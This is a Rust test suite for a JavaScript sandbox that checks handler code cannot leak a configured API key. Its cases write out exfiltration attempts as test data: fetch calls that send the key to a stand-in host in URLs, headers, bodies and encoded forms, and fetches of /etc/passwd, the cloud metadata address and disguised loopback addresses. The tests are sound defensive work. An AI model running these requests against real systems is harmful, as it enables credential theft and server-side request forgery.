//! Ways out for a secret.

use super::{Case, ends, refused, run};

const ELSEWHERE: &str = "the secret `api_key` may not be sent to";
const WITH_KEY: &str = "const headers = {'x-key': config.api_key};";

#[test]
fn no_request_takes_a_secret_elsewhere() {
    run(&[
        refused("query", "await fetch(evil + '/?k=' + config.api_key);", ELSEWHERE),
        refused("path", "await fetch(`${evil}/${config.api_key}/x`);", ELSEWHERE),
        refused("header", "await fetch(evil, {headers: {'x-key': config.api_key}});", ELSEWHERE),
        refused(
            "authorization",
            "await fetch(evil, {headers: {authorization: 'Bearer ' + config.api_key}});",
            ELSEWHERE,
        ),
        refused("body", "await fetch(evil, {method: 'POST', body: config.api_key});", ELSEWHERE),
        refused("the configuration", "await fetch(evil, {method: 'POST', body: JSON.stringify(config)});", ELSEWHERE),
        refused("form", "await fetch(evil, {method: 'POST', body: new URLSearchParams(config)});", ELSEWHERE),
        refused(
            "parts of a form",
            "const form = new FormData(); form.set('k', config.api_key); await fetch(evil, {method: 'POST', body: form});",
            ELSEWHERE,
        ),
        refused("blob", "await fetch(evil, {method: 'POST', body: new Blob([config.api_key])});", ELSEWHERE),
        refused(
            "bytes",
            "await fetch(evil, {method: 'POST', body: new TextEncoder().encode(config.api_key)});",
            ELSEWHERE,
        ),
        refused("base64", "await fetch(evil + '/?k=' + btoa('user:' + config.api_key));", ELSEWHERE),
        refused("percent", "await fetch(evil + '/?k=' + encodeURIComponent(config.api_key));", ELSEWHERE),
        refused(
            "twice",
            "await fetch(evil + '/?k=' + encodeURIComponent(btoa(encodeURI(config.api_key))));",
            ELSEWHERE,
        ),
        refused(
            "a token signed with it",
            "await fetch(evil, {headers: {authorization: moltler.sign.jwt({alg: 'HS256', key: config.api_key, claims: {}})}});",
            "may not be sent to",
        ),
        refused(
            "a secret of the handler",
            "await fetch(api.replace(/:[0-9]+$/, ':1') + '/' + moltler.secret('0123456789'));",
            "may not be sent to|only CONFIG can grant",
        ),
        refused(
            "a request that was made before",
            "const request = new Request(evil, {headers: {'x-key': config.api_key}}); await fetch(request.clone());",
            ELSEWHERE,
        ),
        refused(
            "caught",
            "try { await fetch(evil + '/' + config.api_key); } catch (e) { throw new Error('caught ' + e.message); }",
            "caught",
        ),
    ]);
}

#[test]
fn no_name_takes_a_secret_along() {
    run(&[
        refused(
            "a host name",
            "await fetch('http://' + config.api_key + '.example.com/');",
            "cannot be a part of|may not|policy|not granted",
        ),
        refused(
            "the name of a header",
            "await fetch(api, {headers: {[config.api_key]: 'x'}});",
            "cannot be a part of the name of a header",
        ),
        refused("a method", "await fetch(api, {method: config.api_key});", "cannot be a part of the method"),
        refused(
            "a user name",
            "await fetch(api.replace('//', '//u:' + config.api_key + '@'));",
            "user name or password|credentials",
        ),
        refused(
            "a port",
            "await fetch('http://127.0.0.1:' + config.api_key);",
            "not an absolute URL|not a URL|valid URL|URL",
        ),
    ]);
}

#[test]
fn no_redirect_takes_a_secret_along() {
    let followed = "return [{v: 'status ' + (await fetch(api + PATH, {headers})).status}];";
    let case = |name, path: &str| -> Case {
        let body = format!(
            "{WITH_KEY} try {{ {} }} catch (e) {{ return [{{v: 'refused'}}]; }}",
            followed.replace("PATH", &format!("'{path}'"))
        );
        ends(name, Box::leak(body.into_boxed_str()), Ok("[{\"v\":\""))
    };
    run(&[
        case("a header of its own", "/redirect"),
        case("the target holds it", "/redirect-with-key"),
        case("the target holds it in base64", "/redirect-with-base64"),
        refused("without end", "await fetch(api + '/redirect-forever');", "redirect"),
        ends(
            "a body",
            "try { await fetch(api + '/redirect', {method: 'POST', body: config.api_key}); } catch {} return [{v: 'done'}];",
            Ok("done"),
        ),
        ends(
            "by hand",
            "const headers = {'x-key': config.api_key};
             const response = await fetch(api + '/redirect-with-key', {headers, redirect: 'manual'});
             try { await fetch(response.headers.get('location')); } catch {} return [{v: 'done'}];",
            Ok("done"),
        ),
    ]);
}

#[test]
fn nothing_that_is_shown_holds_a_secret() {
    let echo = |name, path: &str, shown: &'static str| -> Case {
        let body = format!(
            "{WITH_KEY} const text = await (await fetch(api + '{path}', {{headers}})).text(); console.log(text); return [{{v: text}}];"
        );
        ends(name, Box::leak(body.into_boxed_str()), Ok(shown))
    };
    run(&[
        ends("rows", "return [{v: config.api_key, d: {config, k: [config.api_key]}}];", Ok("***")),
        ends(
            "the console",
            "console.log(config.api_key, config, [config.api_key]); console.error(JSON.stringify(config)); return [];",
            Ok("[]"),
        ),
        refused("an error", "throw new Error('the key is ' + config.api_key);", "the key is ***"),
        refused("a cause", "throw new Error('no', {cause: new TypeError(btoa(config.api_key))});", "Error: no"),
        refused(
            "a class",
            "class E extends Error {} Object.defineProperty(E.prototype, 'name', {value: config.api_key}); throw new E('no');",
            "no",
        ),
        refused("a code", "throw Object.assign(new Error('no'), {code: config.api_key});", "no"),
        refused("a thrown text", "throw config.api_key;", "***"),
        refused("a thrown object", "throw config;", "***"),
        echo("an echo", "/echo", "***"),
        echo("an echo in base64", "/base64", "***"),
        echo("an echo in hexadecimal digits", "/hex", "***"),
        echo("an echo in percent", "/percent", "***"),
        ends(
            "an echo with escapes",
            "const headers = {'x-key': config.api_key}; return [{v: await (await fetch(api + '/escaped', {headers})).json()}];",
            Ok("***"),
        ),
        ends(
            "an echo in a header",
            "const headers = {'x-key': config.api_key}; return [{v: (await fetch(api + '/echo', {headers})).headers.get('x-echo')}];",
            Ok("***"),
        ),
        refused(
            "a page that is no JSON",
            "const headers = {'x-key': config.api_key}; await (await fetch(api + '/page', {headers})).json();",
            "not JSON",
        ),
        refused(
            "the URL of a request that fails",
            "await fetch(api.replace(/:[0-9]+$/, ':1') + '/?k=' + config.api_key);",
            "only CONFIG can grant",
        ),
        Case {
            name: "a cache in SHARED",
            shared: "const stash = []; function keep(value) { stash.push(value); globalThis.kept = value; return stash; }",
            body: "keep(config.api_key); return [{v: keep('x').join(), d: {kept: globalThis.kept, stash: keep('y')}}];",
            ends: Ok("***"),
        },
        ends("its letters", "return [...config.api_key].map(v => ({v}));", Ok("\"v\"")),
        ends(
            "its length",
            "return [{v: String([config.api_key, btoa(config.api_key), encodeURIComponent(config.api_key)].map(text => text.length))}];",
            Ok("40,40,40"),
        ),
        ends(
            "a guess",
            "return [{v: String(moltler.secret('s3cr3t/Hunter' + '+2&k3y') === config.api_key)}];",
            Ok("false"),
        ),
    ]);
}

#[test]
fn a_secret_is_used_whole_or_not_at_all() {
    const PIECE: &str = "the request holds a piece of the placeholder of the secret `api_key`";
    run(&[
        refused("its start", "await fetch(api + '/' + config.api_key.slice(0, 20));", PIECE),
        refused("its end", "await fetch(api, {headers: {x: config.api_key.slice(13)}});", PIECE),
        refused("in capitals", "await fetch(api, {method: 'POST', body: config.api_key.toUpperCase()});", PIECE),
        refused("a piece in base64", "btoa(config.api_key.slice(5));", PIECE),
        refused(
            "out of a key",
            "const key = await crypto.subtle.importKey('raw', new TextEncoder().encode(config.api_key), {name: 'HMAC', hash: 'SHA-256'}, true, ['sign']);
             await crypto.subtle.exportKey('raw', key);",
            "not extractable",
        ),
        refused("read backwards", "return [{v: atob(config.api_key + '!')}];", "InvalidCharacter"),
    ]);
}

#[test]
fn nothing_but_the_web_is_reached() {
    const NOT_GRANTED: &str = "policy|may not|not granted|refused|no connection|not http|file";
    run(&[
        refused("files", "await fetch('file:///etc/passwd');", "file"),
        refused("modules", "await import('fs');", "a handler has no modules"),
        refused("the functions of the host", "(0, eval)('native.reveal');", "ReferenceError|native"),
        refused("the host's own scope", "Function('return core')();", "ReferenceError|core"),
        refused("the address of metadata", "await fetch('http://169.254.169.254/latest/meta-data/');", NOT_GRANTED),
        refused("an address as one number", "await fetch('http://2130706433:1/');", NOT_GRANTED),
        refused("an address in octal digits", "await fetch('http://0177.0.0.1:1/');", NOT_GRANTED),
        refused("an address within IPv6", "await fetch('http://[::ffff:127.0.0.1]:1/');", NOT_GRANTED),
    ]);
}

const PIECES: &str = "const decoder = new TextDecoder(); let text = '';
    for await (const piece of (await fetch(config.raw_url + '/split')).body) text += decoder.decode(piece, {stream: true});";

#[test]
fn no_stream_takes_a_secret_apart() {
    let rows = |name: &'static str, end: &str, told: &'static str| {
        ends(name, Box::leak(format!("{PIECES}\n{end}").into_boxed_str()), Ok(told))
    };
    run(&[
        rows("its pieces", "return [{v: text}];", "***"),
        rows("read as JSON", "const v = JSON.parse(text); return [{v: [v.plain === config.api_key, v.base64.length, v.hex === v.plain].join()}];", "true,40,true"),
        ends("whole", "const v = await (await fetch(config.raw_url + '/split')).json(); return [{v: String(v.plain === config.api_key)}];", Ok("true")),
        ends(
            "by two readers",
            "const r = await fetch(config.raw_url + '/split'); const c = r.clone(); const [a, b] = await Promise.all([r.text(), c.text()]); return [{v: String(a === b && a.includes(config.api_key))}];",
            Ok("true"),
        ),
        ends(
            "letter by letter",
            "const reader = (await fetch(config.raw_url + '/split')).body.getReader(); const letters = [];
             while (true) { const {value, done} = await reader.read(); if (done) break; letters.push(...value); }
             return letters.map(letter => ({v: String.fromCharCode(letter)}));",
            Ok("\"v\""),
        ),
        ends(
            "sent on as a stream",
            "const r = await fetch(config.raw_url + '/split');
             try { await fetch(evil, {method: 'POST', body: r.body, duplex: 'half'}); return [{v: 'sent'}]; } catch (error) { return [{v: 'refused'}]; }",
            Ok("refused"),
        ),
    ]);
}

#[test]
fn no_key_takes_a_secret_along() {
    const OWN: &str = "const {subtle} = crypto, bytes = new TextEncoder().encode(config.api_key), iv = new Uint8Array(12), how = {name: 'AES-GCM', iv};
        const own = await subtle.importKey('raw', new Uint8Array(16), 'AES-GCM', true, ['encrypt', 'decrypt', 'wrapKey', 'unwrapKey']);";
    let case = |name: &'static str, body: &str, told: &'static str| {
        refused(name, Box::leak(format!("{OWN}\n{body}").into_boxed_str()), told)
    };
    run(&[
        case("encrypted with a known key", "const sealed = await subtle.encrypt(how, own, bytes); return [{v: new TextDecoder().decode(await subtle.decrypt(how, own, sealed))}];", "a secret is not encrypted"),
        case("as additional data", "await subtle.encrypt({...how, additionalData: bytes}, own, iv);", "a secret is not encrypted"),
        case("as the iv", "await subtle.encrypt({name: 'AES-GCM', iv: bytes}, own, iv);", "12 bytes|a secret is not encrypted"),
        case("decrypted", "await subtle.decrypt(how, own, bytes);", "a secret is not decrypted"),
        case("exported", "const key = await subtle.importKey('raw', bytes, {name: 'HMAC', hash: 'SHA-256'}, true, ['sign']); await subtle.exportKey('raw', key);", "not extractable"),
        case("exported as JWK", "const key = await subtle.importKey('raw', bytes, {name: 'HMAC', hash: 'SHA-256'}, true, ['sign']); await subtle.exportKey('jwk', key);", "not extractable"),
        case("wrapped", "const key = await subtle.importKey('raw', bytes, {name: 'HMAC', hash: 'SHA-256'}, true, ['sign']); await subtle.wrapKey('raw', key, own, how);", "not extractable"),
        case(
            "derived and exported",
            "const base = await subtle.importKey('raw', bytes, 'PBKDF2', false, ['deriveKey']);
             const key = await subtle.deriveKey({name: 'PBKDF2', hash: 'SHA-256', salt: iv, iterations: 1}, base, {name: 'AES-GCM', length: 128}, true, ['encrypt']);
             await subtle.exportKey('raw', key);",
            "not extractable",
        ),
        case("signed and asked back", "const key = await subtle.importKey('raw', bytes, {name: 'HMAC', hash: 'SHA-256'}, true, ['sign']); key.extractable = true; await subtle.exportKey('raw', key);", "TypeError|not extractable"),
    ]);
}
